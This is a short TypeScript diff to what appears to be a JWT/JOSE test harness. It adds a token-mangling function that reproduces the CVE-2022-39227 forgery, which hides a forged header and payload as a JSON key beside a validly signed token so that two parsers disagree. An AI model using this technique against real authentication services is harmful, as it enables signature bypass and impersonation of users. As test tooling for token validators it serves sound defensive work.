@@ -47,10 +47,25 @@ export const MANGLES = {
 		const signatures = [{ protected: header, signature }];
 		return JSON.stringify({ payload, signatures });
 	},
+	/** CVE-2022-39227: one parser verifies the good token's parts, the other splits the text and reads the forged one's. */
+	"hide-in-json": (token, _, signed) => {
+		const [header, payload, signature] = signed.split(".");
+		const [forgedHeader, forged] = token.split(".");
+		const hidden = `${forgedHeader}.${forged}.`;
+		return JSON.stringify({
+			[hidden]: "",
+			protected: header,
+			payload,
+			signature,
+		});
+	},
 	quote: (token) => `"${token}"`,
 	encrypt: (token, keys) => encryptTo(keys.ci, token),
 	nothing: () => "",
-} as const satisfies Record<string, (token: string, keys: KeySet) => string>;
+} as const satisfies Record<
+	string,
+	(token: string, keys: KeySet, signed: string) => string
+>;
 
 export type Mangle = keyof typeof MANGLES;
 
